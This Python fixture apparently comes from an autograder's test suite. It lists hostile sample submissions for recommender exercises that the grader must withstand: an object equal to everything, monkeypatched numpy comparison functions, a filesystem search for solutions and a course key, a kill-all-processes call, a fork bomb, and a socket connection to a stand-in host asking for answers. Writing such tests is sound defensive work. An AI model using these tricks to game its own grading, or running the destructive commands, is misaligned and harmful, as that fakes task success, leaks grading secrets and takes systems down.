"""What the hostile sample submission hands in: id of the exercise -> an answer that attacks."""

ATTACKS = {
    "sparsity": '''
class Equal(float):
    """Equal to everything, as far as == and - are asked."""

    __eq__ = __ge__ = __le__ = lambda *_: True
    __sub__ = __rsub__ = lambda *_: 0.0
    __hash__ = float.__hash__


def sparsity(num_users, num_items, num_ratings):
    return Equal(1.0)
''',
    "baseline": """
import os

SECRETS = {"grading_tests", "solutions", "submitted", "gradebook.db", ".course_key"}


def fit_bias_baseline(*_, **__):
    found = []
    for folder, folders, files in os.walk("/"):
        folders[:] = [name for name in folders if name not in ("proc", "site-packages")]
        found += [os.path.join(folder, name) for name in SECRETS & {*folders, *files}]
    raise RuntimeError(f"looked for the course's secrets and found {found}")
""",
    "dot_product": """
import os
import signal


def CFDotProduct(*_, **__):
    os.kill(-1, signal.SIGKILL)
""",
    "squared_error": """
import os


def train_step(*_, **__):
    while True:
        os.fork()


compute_metrics = train_step
""",
    "cosine_similarity": """
import numpy as np

np.allclose = np.array_equal = lambda *_, **__: True
np.testing.assert_allclose = lambda *_, **__: None


def get_cos_sim_distances(item, embeddings):
    return np.zeros(len(embeddings))
""",
    "recommend": """
import socket


def recommend_for_user(*_, **__):
    with socket.create_connection(("192.0.2.1", 80), timeout=2) as line:
        line.sendall(b"the answers, please")
""",
}
